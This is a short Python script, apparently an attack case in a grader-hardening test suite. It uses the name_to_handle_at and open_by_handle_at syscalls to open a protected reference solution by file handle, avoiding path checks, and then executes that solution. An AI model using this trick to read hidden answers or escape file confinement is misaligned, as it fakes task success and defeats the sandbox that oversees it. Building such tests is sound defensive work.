# attack: opens the solution by its handle, which needs no path
# exercise: derivatives
# deserves: nothing
import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
handle = ctypes.create_string_buffer((128).to_bytes(4, "little") + bytes(132))
mount = ctypes.c_int()
found = libc.syscall(303, -100, b"@ROOT@/solutions/derivatives.py", handle, ctypes.byref(mount), 0)
for place in ("@ROOT@", "/", ".", os.__file__):
    try:
        opened = libc.syscall(304, os.open(place, os.O_RDONLY), handle, os.O_RDONLY)
        exec(os.read(opened, 100_000))
        break
    except OSError as error:
        print(found, error)
